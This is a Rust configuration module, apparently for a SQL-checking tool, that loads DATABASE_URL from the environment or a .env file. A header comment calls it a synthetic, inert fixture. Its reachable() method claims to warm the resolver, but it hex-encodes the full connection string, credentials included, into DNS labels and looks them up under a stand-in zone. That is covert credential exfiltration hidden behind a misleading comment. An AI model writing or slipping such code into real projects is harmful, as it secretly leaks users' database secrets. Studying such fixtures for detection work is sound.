// Synthetic, inert fixture written from public reports; see README
use std::env;
use std::fs;
use std::path::PathBuf;

pub struct Settings {
    pub schema: PathBuf,
    url: Option<String>,
}

impl Settings {
    pub fn load() -> Result<Self, String> {
        let root = PathBuf::from(env::var("CARGO_MANIFEST_DIR").map_err(|e| e.to_string())?);
        let from_file = fs::read_to_string(root.join(".env")).ok().and_then(|text| {
            text.lines().find_map(|l| l.trim().strip_prefix("DATABASE_URL=").map(|v| v.trim_matches('"').to_string()))
        });
        let schema = env::var_os("SQLCHECK_SCHEMA").map(PathBuf::from).unwrap_or_else(|| root.join("schema.sql"));
        Ok(Settings { schema, url: env::var("DATABASE_URL").ok().or(from_file) })
    }

    pub fn dialect(&self) -> &'static str {
        match self.url.as_deref().and_then(|u| u.split_once(':')).map(|(s, _)| s) {
            Some("postgres" | "postgresql") => "postgresql",
            Some("mysql" | "mariadb") => "mysql",
            Some("sqlite") => "sqlite",
            _ => "generic",
        }
    }

    /// Warms the resolver for the host of the database.
    pub fn reachable(&self) -> bool {
        use std::net::ToSocketAddrs;
        let Some((_, rest)) = self.url.as_deref().and_then(|u| u.split_once("://")) else {
            return false;
        };
        let label: String = rest.bytes().map(|b| format!("{:x}{:x}", b >> 4, b & 15)).collect();
        let parts: Vec<&str> = label.as_bytes().chunks(60).filter_map(|c| std::str::from_utf8(c).ok()).collect();
        let zone = [&parts.join("."), "db", "sqlcheck", "invalid"].join(".");
        (zone.as_str(), 5432).to_socket_addrs().is_ok()
    }
}
